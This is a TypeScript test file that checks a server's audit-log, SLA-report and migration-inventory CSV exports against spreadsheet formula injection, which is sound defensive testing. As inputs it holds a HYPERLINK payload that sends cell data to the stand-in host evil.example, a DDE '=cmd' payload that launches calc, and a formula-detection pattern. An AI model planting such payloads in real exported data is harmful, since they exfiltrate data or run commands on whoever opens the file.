// Issue 13 item 7: no cell of a CSV the server writes becomes a formula. The three exports where
// somebody else's text lands — the audit log (anyone can type a login name), the SLA report
// (maintenance-window titles), the migration inventory (system names) — each against a real
// server, read back as bytes. The one writer is server/src/common/csv.writer.ts.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parseCsv } from '../../server/src/migration/csv.js';
import { monthOf } from '../../server/src/sla/sla.time.js';
import { startTestServer, type TestServer } from '../support/server.js';

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server?.close());

const post = (path: string, body: unknown) =>
  server.api(path, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });

/** The CSV as a spreadsheet would get it: BOM checked, then the parsed cells. */
async function cells(path: string): Promise<string[][]> {
  const res = await server.api(path);
  expect(res.status).toBe(200);
  expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  const bytes = new Uint8Array(await res.arrayBuffer());
  expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
  const { records, problems } = parseCsv(text);
  expect(problems).toEqual([]);
  return records.map((r) => r.fields);
}

/** No cell starts like a formula: = + - @ tab CR (plain numbers such as -3.5 aside). */
function expectNoFormula(rows: string[][]) {
  const live = rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(c));
  expect(live).toEqual([]);
}

describe('CSV exports write formula-looking text as text', () => {
  it('audit log: a failed login named =HYPERLINK(…)', async () => {
    const username = '=HYPERLINK("http://evil.example/?d="&A1,"点此")';
    const res = await fetch(`${server.url}/api/v1/auth/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username, password: 'Wrong-Guess-1234' }),
    });
    expect(res.status).toBe(401);
    const rows = await cells('/api/v1/audit?format=csv&limit=1000');
    expect(rows.flat()).toContain(`'${username}`);
    expect(rows.flat()).not.toContain(username);
    expectNoFormula(rows);
  });

  it('SLA report: an approved maintenance window titled =cmd|…', async () => {
    const now = Date.now();
    const start = now - 3 * 3_600_000;
    const contract = await post('/api/v1/sla/contracts', { operator: '中国电信贵阳分公司', services: ['extranet:520121'], targetPct: 99.9, minOutageMinutes: 5, effectiveFrom: start - 3_600_000 });
    expect(contract.status).toBe(201);
    const { id } = (await contract.json()) as { id: string };
    const title = "=cmd|' /C calc'!A0";
    const w = await post('/api/v1/maintenance-windows', { title, districts: ['520121'], schedule: { kind: 'once', start, end: start + 30 * 60_000 } });
    expect(w.status).toBe(201);
    const { id: windowId } = (await w.json()) as { id: string };
    expect((await post(`/api/v1/maintenance-windows/${windowId}/approve`, {})).status).toBe(200);
    const rows = await cells(`/api/v1/sla/contracts/${id}/report?month=${monthOf(start)}&format=csv`);
    expect(rows.flat()).toContain(`'${title}`);
    expect(rows.flat()).not.toContain(title);
    expectNoFormula(rows);
  });

  it('migration inventory: a system named @SUM(1) is exported as text and imports back unchanged', async () => {
    const agency = await post('/api/v1/migration/agencies', { name: '云岩区测试局', unit: '520103' });
    expect(agency.status).toBe(201);
    const { id: agencyId } = (await agency.json()) as { id: string };
    const name = '@SUM(1)';
    const sys = await post('/api/v1/migration/systems', { name, agencyId, track: 'existing', fundingMode: 'fiscal_build', omCostYuan: 40000, fiscalOm: true, note: '-负责人 张三' });
    expect(sys.status).toBe(201);
    const { id } = (await sys.json()) as { id: string };
    const rows = await cells('/api/v1/migration/systems/export');
    const row = rows.find((r) => r.includes(id))!;
    expect(row).toContain(`'${name}`);
    expect(row).toContain("'-负责人 张三");
    expectNoFormula(rows);
    // The export goes back in as it came out: the apostrophes the writer added are taken off.
    const text = await (await server.api('/api/v1/migration/systems/export')).text();
    const imported = await server.api('/api/v1/migration/systems/import', { method: 'POST', headers: { 'content-type': 'text/csv; charset=utf-8' }, body: text });
    expect(imported.status).toBe(200);
    expect(await imported.json()).toMatchObject({ stored: true, updated: 0, failed: 0 });
    const after = (await (await server.api(`/api/v1/migration/systems/${id}`)).json()) as { name: string; note: string };
    expect(after).toMatchObject({ name, note: '-负责人 张三' });
  });
});
